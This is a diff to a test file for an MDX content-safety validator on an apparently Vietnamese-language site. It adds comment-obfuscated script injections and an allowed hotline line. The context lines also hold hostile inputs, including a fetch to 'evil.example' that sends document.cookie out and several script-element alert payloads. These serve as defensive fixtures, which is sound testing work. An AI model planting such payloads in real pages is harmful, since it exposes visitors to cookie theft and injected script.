@@ -8,6 +8,8 @@ const HOSTILE: [string, string][] = [
   ['an import', "import Evil from '../../src/evil.astro'\n\nVăn bản."],
   ['an export', 'export const x = 1\n\nVăn bản.'],
   ['an inline expression', 'Năm nay {new Date().getFullYear()} rồi.'],
+  ['code hidden after a comment', 'Chữ {/* ghi chú */ alert(1)} chữ.'],
+  ['two comments around code', '{/* a */ alert(1) /* b */}'],
   ['a block expression', '{fetch("https://evil.example/?c=" + document.cookie)}'],
   ['a script element', '<script>alert(1)</script>'],
   ['an inline script element', 'Chữ <script>alert(1)</script> chữ.'],
@@ -61,6 +63,8 @@ describe('MDX safety', () => {
       '<Video youtube="dQw4w9WgXcQ" tieuDe="Phóng sự về mô hình" />',
       '',
       '<Video facebook="1234567890123" tieuDe="Phóng sự trên Facebook" />',
+      '',
+      'Đường dây nóng của xã: 0228 3123 456 {/* rieng-tu-da-duyet: số của cơ quan */}',
     ].join('\n');
     expect(messages(body)).toEqual([]);
   });
